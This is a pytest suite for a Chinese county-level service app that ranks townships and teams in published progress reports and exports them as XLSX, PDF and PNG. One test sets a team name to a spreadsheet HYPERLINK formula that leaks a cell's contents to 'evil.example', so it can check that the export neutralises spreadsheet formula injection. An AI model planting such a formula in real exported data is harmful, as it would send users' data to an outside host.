"""Progress reports (通报): an admin or a county's lead issues one for a period; it ranks the
units below by completion and quality, never raw counts; a published report never changes,
whatever happens later; the archive lists them; the API answers as api.md says."""

import io
from datetime import datetime
from types import SimpleNamespace
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook
from PIL import Image
from sqlmodel import select

from app.core import clock
from app.core.config import get_settings
from app.domain.codes import RegionLevel, Role
from app.domain.visits import StepForm
from app.models import AuditEvent, Report, ReportDocument, Team
from tests import factories
from tests.conftest import csrf_token
from tests.factories import assign, household, id_number, person, region, region_named, team, user

ZONE = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def frozen(monkeypatch):
    """Business time stands at 20 November 2026, 10:00; a test moves it with ``frozen.now``."""
    held = SimpleNamespace(now=datetime(2026, 11, 20, 10, 0, tzinfo=ZONE))
    monkeypatch.setattr(clock, "now", lambda: held.now)
    return held


def visit(db, home, people, on: str, by: str, three_ones: bool = True):
    moment = datetime.fromisoformat(f"{on}T10:00").replace(tzinfo=ZONE)
    steps = [
        StepForm(person_id=str(p.id), kind=kind)
        for p in people
        for kind in ("calculation", "leaflet")
        if three_ones
    ]
    return factories.visit(db, home, people, by=by, occurred_at=moment.isoformat(), steps=steps)


@pytest.fixture
def hongta(db, frozen):
    """红塔区: 北城街道's 瓦窑村 (Wang, mei's) and 玉兴街道's 太极村 (Sun, otto's), one eligible
    person each; Hong leads for the whole county."""
    village = region(db, "太极村", RegionLevel.village, region_named(db, "玉兴街道"))
    county = region_named(db, "红塔区")
    user(db, "hong", Role.lead, county, (team(db, "红塔区督导组", county),), display_name="洪")
    made = SimpleNamespace(county=county, township=region_named(db, "北城街道"))
    made.wangs = household(db, address="瓦窑村1号")
    assign(db, made.wangs, "mei")
    made.wang = person(db, made.wangs, name="王芳", id_number=id_number(order=101))
    made.suns = household(db, village.name, address="太极村2号")
    assign(db, made.suns, "otto")
    made.sun = person(db, made.suns, name="孙丽", id_number=id_number(order=103))
    return made


def post(client, path: str, **form):
    form["csrf_token"] = csrf_token(client, "/account")
    return client.post(path, data=form, follow_redirects=False)


def issue(client, region, period="2026-11", publish=""):
    """``publish="1"``: published at once, as confirmed."""
    form = {"region_id": str(region.id), "period": period, "publish": publish, "confirmed": publish}
    return post(client, "/reports", **form)


def issued(db, client, region, period="2026-11", publish="") -> Report:
    response = issue(client, region, period, publish)
    assert response.status_code == 303, response.text
    report = db.get(Report, int(response.headers["location"].rsplit("/", 1)[1]))
    db.refresh(report)
    return report


def places(report: Report) -> list[tuple[str, int | None]]:
    return [(row["name"], row["rank"]) for row in report.rows]


# --- ranking --------------------------------------------------------------------------------


def test_a_county_report_ranks_its_townships_by_the_quality_of_their_work(db, as_user, hongta):
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    visit(db, hongta.suns, [hongta.sun], "2026-11-06", "otto", three_ones=False)
    report = issued(db, as_user("hong"), hongta.county)
    assert places(report) == [("北城街道", 1), ("玉兴街道", 2)]
    first, second = report.rows
    assert first["quality"]["three_ones"] == 1.0 and second["quality"]["three_ones"] == 0.0
    assert first["counts"]["households_worked"] == 1
    assert first["marks"] == ["top"] and second["marks"] == ["bottom"]
    assert report.status == "draft" and report.published_at is None


def test_a_township_report_ranks_its_teams_and_one_without_figures_is_unranked(db, as_user, hongta):
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    report = issued(db, as_user("alice"), hongta.township)
    assert places(report) == [("北城一队", 1), ("北城二队", None)]
    assert report.rows[0]["team_id"] is not None


def test_demonstration_townships_are_ranked_apart(db, as_user, hongta):
    yuxing = region_named(db, "玉兴街道")
    yuxing.is_demonstration = True
    db.add(yuxing)
    db.commit()
    client = as_user("alice")
    report = issued(db, client, hongta.county)
    assert [(row["name"], row["demonstration"]) for row in report.rows] == [
        ("北城街道", False),
        ("玉兴街道", True),
    ]
    page = client.get(f"/reports/{report.id}").text
    assert "示范乡镇（街道）" in page


def test_the_most_improved_since_the_last_published_report_stand_beside_the_top(
    db, as_user, hongta, frozen
):
    client = as_user("alice")
    visit(db, hongta.suns, [hongta.sun], "2026-10-06", "otto")
    frozen.now = datetime(2026, 11, 2, 9, 0, tzinfo=ZONE)
    october = issued(db, client, hongta.county, "2026-10", publish="1")
    assert places(october) == [("玉兴街道", 1), ("北城街道", 2)]

    frozen.now = datetime(2026, 11, 20, 10, 0, tzinfo=ZONE)
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    person(db, hongta.suns, name="孙强", id_number=id_number(order=105))  # not worked yet
    november = issued(db, client, hongta.county, "2026-11")
    assert november.previous_id == october.id
    rows = {row["name"]: row for row in november.rows}
    assert rows["北城街道"]["improved_since_last"] == 1
    assert rows["玉兴街道"]["improved_since_last"] == -1
    assert rows["北城街道"]["marks"] == ["most_improved", "top"]


def test_follow_ups_done_by_their_day_count_as_on_time(db, as_user, hongta):
    first = visit(db, hongta.wangs, [hongta.wang], "2026-11-02", "mei")
    from app.services.visits import set_follow_up

    set_follow_up(db, first, "2026-11-10", by=factories.user_named(db, "mei"))
    visit(db, hongta.wangs, [hongta.wang], "2026-11-09", "mei")
    report = issued(db, as_user("alice"), hongta.county)
    beicheng = report.rows[0]
    assert beicheng["counts"]["follow_ups_due"] == 1
    assert beicheng["quality"]["follow_ups_on_time"] == 1.0


# --- frozen once published ------------------------------------------------------------------


def test_a_published_report_keeps_its_figures_whatever_changes_later(db, as_user, hongta):
    client = as_user("alice")
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    published = issued(db, client, hongta.county, publish="1")
    draft = issued(db, client, hongta.county)
    before = client.get(f"/api/v1/reports/{published.id}")
    page_before = client.get(f"/reports/{published.id}").text

    visit(db, hongta.suns, [hongta.sun], "2026-11-07", "otto")

    assert post(client, f"/reports/{published.id}/recompute").status_code == 303
    db.refresh(published)
    assert places(published) == [("北城街道", 1), ("玉兴街道", 2)]
    assert client.get(f"/reports/{published.id}").text == page_before
    assert client.get(f"/api/v1/reports/{published.id}").json() == before.json()

    post(client, f"/reports/{draft.id}/recompute")
    db.refresh(draft)
    assert places(draft) == [("北城街道", 1), ("玉兴街道", 1)]  # a draft follows the data


def test_publishing_a_draft_recomputes_it_and_freezes_the_figures_the_lead_confirmed(
    db, as_user, hongta
):
    client = as_user("hong")
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    draft = issued(db, client, hongta.county)
    assert post(client, f"/reports/{draft.id}/publish", confirmed="1").status_code == 303
    db.refresh(draft)
    assert draft.status == "published" and draft.published_at is not None
    assert places(draft)[0] == ("北城街道", 1)
    actions = db.exec(select(AuditEvent.action).where(AuditEvent.target == f"report:{draft.id}"))
    assert set(actions) == {"report_drafted", "report_published"}


def test_figures_that_changed_since_the_draft_are_shown_and_asked_about_again(db, as_user, hongta):
    client = as_user("hong")
    draft = issued(db, client, hongta.county)
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")  # after the lead read the draft
    asked = post(client, f"/reports/{draft.id}/publish", confirmed="1")
    assert asked.headers["location"] == f"/reports/{draft.id}?publish=changed#publish-confirm"
    db.refresh(draft)
    assert draft.status == "draft" and places(draft)[0] == ("北城街道", 1)  # recomputed, kept
    page = client.get(asked.headers["location"]).text
    assert 'id="figures-changed"' in page and 'name="confirmed" value="1"' in page
    assert post(client, f"/reports/{draft.id}/publish", confirmed="1").status_code == 303
    db.refresh(draft)
    assert draft.status == "published" and places(draft)[0] == ("北城街道", 1)


def test_publishing_asks_first_and_says_what_follows(db, as_user, hongta):
    client = as_user("hong")
    draft = issued(db, client, hongta.county)
    asked = post(client, f"/reports/{draft.id}/publish")
    assert asked.headers["location"] == f"/reports/{draft.id}?publish=ask#publish-confirm"
    db.refresh(draft)
    assert draft.status == "draft"
    page = client.get(f"/reports/{draft.id}?publish=ask").text
    assert "发布后，这些数字将永久固定" in page and "红塔区及其上级、下级地区的队长" in page
    assert "发布后无法撤回" in page and 'name="confirmed" value="1"' in page
    assert 'id="publish-confirm"' not in client.get(f"/reports/{draft.id}").text


def test_publishing_at_once_from_the_archive_drafts_the_report_and_asks_first(db, as_user, hongta):
    client = as_user("hong")
    asked = post(client, "/reports", region_id=str(hongta.county.id), period="2026-11", publish="1")
    assert asked.status_code == 303 and asked.headers["location"].endswith(
        "?publish=ask#publish-confirm"
    )
    (report,) = db.exec(select(Report)).all()
    assert report.status == "draft" and report.published_at is None


# --- who may issue and read -----------------------------------------------------------------


def test_a_county_lead_issues_for_their_county_and_its_townships_only(db, as_user, hongta):
    client = as_user("hong")
    assert issue(client, hongta.county).status_code == 303
    assert issue(client, hongta.township).status_code == 303
    for elsewhere in (region_named(db, "玉溪市"), region_named(db, "江川区")):
        refused = issue(client, elsewhere)
        assert refused.status_code == 422
        assert "通报只对县（市、区）" in refused.text


def test_a_township_lead_reads_reports_that_rank_them_but_issues_none(db, as_user, hongta):
    admin = as_user("alice")
    county = issued(db, admin, hongta.county, publish="1")
    draft = issued(db, admin, hongta.county)
    jiangchuan = issued(db, admin, region_named(db, "江川区"), publish="1")
    lee = as_user("lee")
    archive = lee.get("/reports").text
    assert 'id="issue"' not in archive
    assert f'data-report-id="{county.id}"' in archive
    assert f'data-report-id="{draft.id}"' not in archive
    assert f'data-report-id="{jiangchuan.id}"' not in archive
    page = lee.get(f"/reports/{county.id}")
    assert page.status_code == 200
    assert "待核查的数据质量提示：0条" in page.text  # their own members' flags
    assert lee.get(f"/reports/{draft.id}").status_code == 404
    assert issue(lee, hongta.township).status_code == 422


def test_members_and_cadres_have_no_reports(as_user, hongta):
    for username in ("mei", "cai"):
        assert as_user(username).get("/reports").status_code == 403


# --- the form --------------------------------------------------------------------------------


def test_a_period_that_is_not_a_month_or_a_year_is_refused_and_kept(db, as_user, hongta):
    client = as_user("alice")
    for typed, message in (
        ("2026-13", "一个自然月或一个自然年"),
        ("2021-12", "一个自然月或一个自然年"),
        ("2027-01", "还没有开始"),
    ):
        refused = issue(client, hongta.county, typed)
        assert refused.status_code == 422
        assert message in refused.text
        assert f'value="{typed}"' in refused.text
    assert db.exec(select(Report)).all() == []


# --- the archive, exports and the API ---------------------------------------------------------


def test_the_archive_lists_every_issued_report_newest_first(db, as_user, hongta, frozen):
    client = as_user("alice")
    october = issued(db, client, hongta.county, "2026-10", publish="1")
    november = issued(db, client, hongta.county, "2026-11")
    archive = client.get("/reports").text
    assert archive.index(f'data-report-id="{november.id}"') < archive.index(
        f'data-report-id="{october.id}"'
    )
    assert "2026年10月" in archive and "红塔区社保服务先锋队工作通报" in archive


def test_a_published_report_exports_to_xlsx_with_the_pages_numbers(db, as_user, hongta):
    client = as_user("alice")
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    report = issued(db, client, hongta.county, publish="1")
    response = client.get(f"/reports/{report.id}/report.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0][:2] == ("名次", "单位")
    assert rows[1][:2] == (1, "北城街道")
    assert "三个一完成率（%）" in rows[0] and 100 in rows[1]
    assert db.exec(select(AuditEvent).where(AuditEvent.action == "export")).first()
    draft = issued(db, client, hongta.county)
    assert client.get(f"/reports/{draft.id}/report.xlsx").status_code == 404


def test_a_team_named_like_a_formula_is_exported_as_text_its_place_as_a_number(db, as_user, hongta):
    first = db.exec(select(Team).where(Team.name == "北城一队")).one()
    first.name = '=HYPERLINK("http://evil.example/?x="&B2,"查看")'
    db.add(first)
    db.commit()
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    client = as_user("alice")
    report = issued(db, client, hongta.township, publish="1")
    response = client.get(f"/reports/{report.id}/report.xlsx")
    place, unit, *_rest = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(2, 2))
    assert (unit.value, unit.data_type, unit.quotePrefix) == (first.name, "s", True)
    assert (place.value, place.data_type) == (1, "n")


def test_the_api_issues_lists_and_reads_reports_as_api_md_says(db, client, api_token, hongta):
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    as_hong = api_token("hong")
    body = {
        "region_id": hongta.county.id,
        "period_start": "2026-11-01",
        "period_end": "2026-11-30",
        "publish": True,
    }
    made = client.post("/api/v1/reports", json=body, headers=as_hong)
    assert made.status_code == 201, made.text
    report = made.json()
    assert {"id", "region_id", "status", "published_at", "rows", "image_url", "pdf_url"} <= set(
        report
    )
    assert report["status"] == "published"
    assert report["image_url"] == f"/api/v1/reports/{report['id']}/report.png"
    row = report["rows"][0]
    assert {"region_id", "name", "rank", "completion", "quality", "improved_since_last"} <= set(row)
    assert (row["name"], row["rank"]) == ("北城街道", 1)
    listed = client.get(f"/api/v1/reports?region_id={hongta.county.id}", headers=as_hong).json()
    assert [r["id"] for r in listed] == [report["id"]]
    assert client.get(f"/api/v1/reports/{report['id']}", headers=as_hong).json() == report

    draft = client.post("/api/v1/reports", json={**body, "publish": False}, headers=as_hong)
    assert draft.json()["image_url"] is None and draft.json()["published_at"] is None


def test_the_api_refuses_what_the_rules_refuse(db, client, api_token, hongta):
    as_hong = api_token("hong")
    body = {"region_id": hongta.county.id, "period_start": "2026-11-01", "period_end": "2026-11-15"}
    half = client.post("/api/v1/reports", json=body, headers=as_hong)
    assert half.status_code == 422
    assert "一个自然月或一个自然年" in half.json()["detail"][0]["msg"]
    city = {**body, "region_id": region_named(db, "玉溪市").id, "period_end": "2026-11-30"}
    assert client.post("/api/v1/reports", json=city, headers=as_hong).status_code == 403
    village = {**city, "region_id": region_named(db, "瓦窑村").id}
    assert client.post("/api/v1/reports", json=village, headers=as_hong).status_code == 422
    member = client.post("/api/v1/reports", json=city, headers=api_token("mei"))
    assert member.status_code == 403


# --- the image and the PDF --------------------------------------------------------------------


def pdf_text(content: bytes) -> str:
    document = pdfium.PdfDocument(content)
    assert len(document) == 1
    return document[0].get_textpage().get_text_range()


def test_a_published_report_is_drawn_as_one_pdf_page_and_one_image_and_kept(db, as_user, hongta):
    client = as_user("alice")
    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
    report = issued(db, client, hongta.county, publish="1")
    pdf = client.get(f"/reports/{report.id}/report.pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    assert "红塔区社保服务先锋队工作通报" in pdf_text(pdf.content)
    assert "北城街道" in pdf_text(pdf.content)
    png = client.get(f"/reports/{report.id}/report.png")
    assert png.headers["content-type"] == "image/png"
    assert png.headers["content-disposition"].startswith("inline")
    image = Image.open(io.BytesIO(png.content))
    assert image.format == "PNG" and image.text["Title"] == "红塔区社保服务先锋队工作通报"
    assert db.exec(select(ReportDocument)).all()  # drawn once, then kept
    assert client.get(f"/reports/{report.id}/report.png").content == png.content


def test_the_pages_and_the_api_send_a_report_under_the_same_names(
    db, client, api_token, as_user, hongta
):
    as_alice = api_token("alice")
    body = {"region_id": hongta.county.id, "period_start": "2026-11-01", "period_end": "2026-11-30"}
    made = client.post("/api/v1/reports", json={**body, "publish": True}, headers=as_alice).json()
    from_api = client.get(made["pdf_url"], headers=as_alice).headers["content-disposition"]
    assert from_api.startswith("inline; filename=report-530402-2026-11-monthly.pdf; filename*=")
    assert quote("红塔区社保服务先锋队工作通报 2026年11月.pdf") in from_api
    page = as_user("alice")
    assert page.get(f"/reports/{made['id']}/report.pdf").headers["content-disposition"] == from_api
    xlsx = page.get(f"/reports/{made['id']}/report.xlsx").headers["content-disposition"]
    assert xlsx.startswith("attachment; filename=report-530402-2026-11-monthly.xlsx; filename*=")


def test_the_drawing_speaks_the_readers_language_and_a_draft_has_none(
    db, client, api_token, hongta
):
    english = factories.user_named(db, "alice")
    english.locale = "en"
    db.add(english)
    db.commit()
    as_alice = api_token("alice")
    body = {"region_id": hongta.county.id, "period_start": "2026-11-01", "period_end": "2026-11-30"}
    made = client.post("/api/v1/reports", json={**body, "publish": True}, headers=as_alice).json()
    pdf = client.get(made["pdf_url"], headers={**as_alice, "Accept-Language": "en"})
    assert pdf.status_code == 200
    assert "progress report" in pdf_text(pdf.content)
    draft = client.post("/api/v1/reports", json=body, headers=as_alice).json()
    url = f"/api/v1/reports/{draft['id']}/report.pdf"
    assert client.get(url, headers=as_alice).status_code == 404


def test_without_a_chinese_font_the_reader_is_told_what_the_server_lacks(
    db, as_user, hongta, monkeypatch
):
    client = as_user("alice")
    report = issued(db, client, hongta.county, publish="1")
    monkeypatch.setenv("VANGUARD_CJK_FONT", "/nonexistent/font.ttc")
    get_settings.cache_clear()
    answer = client.get(f"/reports/{report.id}/report.png")
    assert answer.status_code == 503
    assert "服务器没有中文字体" in answer.text
    assert client.get(f"/reports/{report.id}/report.xlsx").status_code == 200
